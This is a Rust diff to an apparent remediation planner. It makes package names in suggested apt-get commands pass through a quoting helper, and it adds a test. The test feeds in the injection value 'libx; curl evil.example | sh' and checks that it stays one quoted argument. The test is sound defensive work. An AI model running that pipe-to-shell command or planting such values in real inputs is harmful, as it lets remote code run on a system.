@@ -313,7 +313,7 @@ fn make_action(key: GroupKey, findings: Vec<Finding>, exposed: &BTreeSet<String>
             } else {
                 format!(
                     "apt-get install --only-upgrade {}",
-                    binaries.into_iter().collect::<Vec<_>>().join(" ")
+                    crate::command::deb_packages(binaries)
                 )
             };
             (
@@ -524,6 +524,36 @@ mod tests {
             plan.actions[0].title,
             "Upgrade the release to 12 (Bookworm)"
         );
+    }
+
+    /// Issue 8, finding 5: a package name from an agent's facts that breaks Debian policy
+    /// reaches the suggested command as one quoted shell argument, never as shell code.
+    #[test]
+    fn hostile_package_name_in_facts_is_one_quoted_argument_of_the_command() {
+        let hostile = "libx; curl evil.example | sh";
+        let mut missing = f(
+            FindingKind::MissingUpdate,
+            "missing-security-update",
+            hostile,
+        );
+        missing.fix = Some(Fix {
+            source: "libx".into(),
+            version: "1.1".into(),
+        });
+        let mut plain = missing.clone();
+        plain.subject = "libx1".into();
+        let facts = Facts::default();
+        let plan = build(
+            &facts,
+            vec![missing, plain],
+            "2026-11-10T09:00:00Z".parse().unwrap(),
+        );
+        assert_eq!(
+            plan.actions[0].remediation,
+            "apt-get install --only-upgrade libx1 'libx; curl evil.example | sh'"
+        );
+        let words = shlex::split(&plan.actions[0].remediation).unwrap();
+        assert_eq!(words[3..], ["libx1", hostile]);
     }
 
     #[test]
